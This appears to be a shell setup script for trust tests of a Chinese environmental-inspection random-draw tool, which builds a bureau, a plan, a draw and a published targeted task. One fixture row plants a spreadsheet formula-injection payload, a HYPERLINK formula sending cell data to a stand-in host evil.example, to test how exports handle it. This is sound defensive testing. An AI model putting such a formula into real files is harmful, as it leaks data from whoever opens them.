# Shared setup of the trust tests (t0609, t0610): a bureau with its directories, a plan, a draw that
# was run, targeted tasks with recorded and published results, and a name that is a spreadsheet
# formula. Sourced after lib.sh; leaves SUIJI_NOW unset.
D=$DATA/dir
export SUIJI_NOW=2024-12-01T08:00:00+08:00 # the audit chain only moves forward in time
"$SUIJI" init --org 焦作市生态环境局 --region 410800 --level city >/dev/null --admin "$SUIJI_USER" <<<"$ADMIN_PW"
"$SUIJI" import items "$D/items.csv" --date 2025-01-02 >/dev/null
"$SUIJI" import people "$D/people.csv" --date 2025-01-02 >/dev/null
# objects: the test directory plus one whose name is a formula, one with a leading ' before a formula
{ cat "$D/objects.csv"; printf '%s\n' '91410823MA40EE3Y66,"=HYPERLINK(""http://evil.example/?d=""&B2,""点击"")",410823,2614,重点,,,,,,,,,,,' \
	"914108111287345640,'+1 焦作市解放区皮革厂,410811,1910,一般,,,,,,,,,,,"; } >"$T/objects-in.csv"
"$SUIJI" import objects "$T/objects-in.csv" --date 2025-01-02 >/dev/null || echo "setup: objects import failed" >&2
"$SUIJI" plan new --year 2025 --date 2025-01-02 >/dev/null
"$SUIJI" plan line add --year 2025 --name 一般单位抽查 --items JZ-001 --ratio 50 --class 一般,特殊 >/dev/null
"$SUIJI" plan file --year 2025 --out-dir "$T" >/dev/null
export SUIJI_NOW=2025-01-05T09:00:00+08:00
"$SUIJI" draw announce --year 2025 --lines 1 --period 2025Q1 --beacon-source "福彩3D 2025-01-06 开奖号码" \
	--date 2025-01-05 >/dev/null || echo "setup: announce failed" >&2
export SUIJI_NOW=2025-01-06T21:30:00+08:00
"$SUIJI" draw run 1 --beacon "5 2 8" >/dev/null || echo "setup: draw run failed" >&2
export SUIJI_NOW=2025-09-01T09:00:00+08:00
"$SUIJI" targeted add --uscc 91410823MA40EE3Y66 --trigger 信访投诉举报 --reference XF-1 --items JZ-001 --team P0001,P0002 \
	>/dev/null || echo "setup: targeted failed" >&2
tid=$(sqlite3 "$SUIJI_DB" "select max(id) from task")
export SUIJI_NOW=2025-09-25T09:00:00+08:00
"$SUIJI" result record "$tid" --result 未发现问题 --date 2025-09-20 >/dev/null || echo "setup: result failed" >&2
"$SUIJI" disclosure publish "$tid" >/dev/null || echo "setup: disclosure failed" >&2
unset SUIJI_NOW
